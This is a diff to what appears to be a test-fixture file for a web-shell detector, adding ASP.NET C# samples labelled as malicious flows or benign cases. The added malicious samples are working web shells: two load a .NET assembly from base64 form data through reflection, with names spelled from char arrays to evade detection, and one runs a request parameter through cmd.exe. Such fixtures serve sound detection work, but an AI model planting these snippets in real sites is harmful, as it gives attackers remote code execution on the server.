@@ -132,6 +132,27 @@ FLOWS = [
         CLASSLOAD,
     ),
     (
+        "type and method names spelled from char arrays, called through InvokeMember",
+        "<% var t = Type.GetType(new string(new char[] { 'S', 'y', 's', 't', 'e', 'm', '.', 'R', 'e', 'f', 'l', 'e',"
+        " 'c', 't', 'i', 'o', 'n', '.', 'A', 's', 's', 'e', 'm', 'b', 'l', 'y' }));"
+        ' byte[] d = Convert.FromBase64String(Request.Form["d"]);'
+        " t.InvokeMember(new string(new char[] { 'L', 'o', 'a', 'd' }), System.Reflection.BindingFlags.InvokeMethod,"
+        " null, null, new object[] { d }); %>",
+        CLASSLOAD,
+    ),
+    (
+        "a local delegate called by its name, its parameter written without parentheses",
+        '<% Func<byte[], object> bring = raw => typeof(System.Reflection.Assembly).GetMethod("Load",'
+        " new Type[] { typeof(byte[]) }).Invoke(null, new object[] { raw });"
+        ' var o = bring(Convert.FromBase64String(Request["p"])); %>',
+        CLASSLOAD,
+    ),
+    (
+        "a one-parameter lambda without parentheses passing its argument to Process.Start",
+        '<% Action<string> run = c => System.Diagnostics.Process.Start("cmd.exe", "/c " + c); run(Request["c"]); %>',
+        CMD,
+    ),
+    (
         "method name joined by a params helper",
         '<%@ Page Language="C#" %><script runat="server">string J(params string[] p) { return string.Join("", p); }'
         ' void Page_Load(object s, EventArgs e) { var t = Type.GetType(J("System.Diagnostics.", "Process, System"));'
@@ -354,6 +375,13 @@ BENIGN = [
         "client name passed to a path formatter defined elsewhere",
         "<% var f = Request.Files[0]; byte[] b = new byte[f.ContentLength]; f.InputStream.Read(b, 0, b.Length);"
         ' System.IO.File.WriteAllBytes(Server.MapPath(NamePattern.Format(f.FileName, "{yyyy}/{rand:6}")), b); %>',
+    ),
+    (
+        "a label spelled from a char array; an assembly loaded by InvokeMember from the site's own bin",
+        "<% string t = new string(new char[] { 'R', 'e', 'p' }); byte[] img ="
+        ' System.IO.File.ReadAllBytes(Server.MapPath("~/bin/R.dll")); Func<byte[], object> bring = raw =>'
+        ' typeof(System.Reflection.Assembly).InvokeMember("Load", System.Reflection.BindingFlags.InvokeMethod,'
+        ' null, null, new object[] { raw }); bring(img); Response.Write(t + Request["x"]); %>',
     ),
     (
         "xp_cmdshell status query with a bound parameter",
